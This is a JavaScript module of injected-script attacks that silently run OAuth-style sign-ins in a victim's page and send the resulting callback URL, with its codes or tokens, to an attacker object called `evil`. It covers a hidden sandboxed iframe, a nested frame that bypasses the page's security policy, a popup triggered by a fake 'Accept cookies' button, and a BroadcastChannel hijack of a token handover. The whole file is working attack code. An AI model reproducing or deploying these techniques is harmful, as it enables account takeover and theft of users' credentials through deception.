// Sign-ins that an injected script starts by itself. Each function runs in the page and stands alone.

/**
 * Asks the authorization server without a word to the person, in a frame that nobody sees, and sends the attacker the URL
 * that the frame arrived at, if that can be read.
 */
export async function silentFrame(evil, { url, callback }) {
  // The app's own scripts shall not run in there and clean up.
  const frame = Object.assign(document.createElement("iframe"), { sandbox: "allow-same-origin", hidden: true, src: url });
  await new Promise((resolve) => {
    frame.addEventListener("load", resolve);
    document.documentElement.append(frame);
  });
  try {
    const { href } = frame.contentWindow.location;
    if (href.startsWith(callback)) await evil.post(href);
  } catch {
    // It shows an error of the browser's, which belongs to nobody.
  }
}

/** The same in two steps: the policy of this page does not count in a frame of a `host` page that lacks it. */
export async function silentFrameInside(evil, { url, callback, host }) {
  const loaded = (parent, frame) =>
    new Promise((resolve) => {
      frame.addEventListener("load", () => resolve(frame));
      parent.documentElement.append(frame);
    });
  const outer = await loaded(document, Object.assign(document.createElement("iframe"), { hidden: true, src: host }));
  const inside = outer.contentDocument;
  if (!inside) return;
  const frame = Object.assign(inside.createElement("iframe"), { sandbox: "allow-same-origin", src: url });
  try {
    const { href } = (await loaded(inside, frame)).contentWindow.location;
    if (href.startsWith(callback)) await evil.post(href);
  } catch {
    // As above.
  }
}

/** Waits for the next click, and signs in in a popup; `globalThis.tried` settles when that has come to something. */
export function popupOnClick(evil, { url, callback }) {
  const watch = (popup, done) => {
    const timer = setInterval(() => {
      let href = null;
      try {
        // The app in the popup may have cleaned its address already; the browser's own note of it stays.
        const [entry] = popup.performance.getEntriesByType("navigation");
        href = [popup.location.href, entry?.name].find((one) => one?.startsWith(callback));
      } catch {
        // It is at the authorization server.
      }
      if (!href && !popup.closed) return;
      clearInterval(timer);
      popup.close();
      done(href && evil.post(href));
    }, 5);
  };
  const bait = Object.assign(document.createElement("button"), { id: "bait", textContent: "Accept cookies" });
  bait.addEventListener("click", () => {
    const popup = open(url, "_blank", "popup,width=100,height=100");
    globalThis.tried = new Promise((done) => watch(popup, done));
  });
  document.body.append(bait);
}

/**
 * The same where the browser cuts the link to the popup: this script chose `state`, so it knows how the callback page will
 * call the channel that it hands its URL over by.
 */
export async function relayOnClick(evil, { url, state }) {
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(state)));
  const key = btoa(String.fromCharCode(...digest))
    .replaceAll("+", "-")
    .replaceAll("/", "_")
    .replaceAll("=", "");
  const channel = new BroadcastChannel(`tokenkeep-${key}`);
  channel.addEventListener("message", ({ data }) => {
    channel.postMessage({ taken: true });
    evil.post(data.href);
  });
  const bait = Object.assign(document.createElement("button"), { id: "bait", textContent: "Accept cookies" });
  bait.addEventListener("click", () => void open(url, "_blank", "popup,width=100,height=100"));
  document.body.append(bait);
}
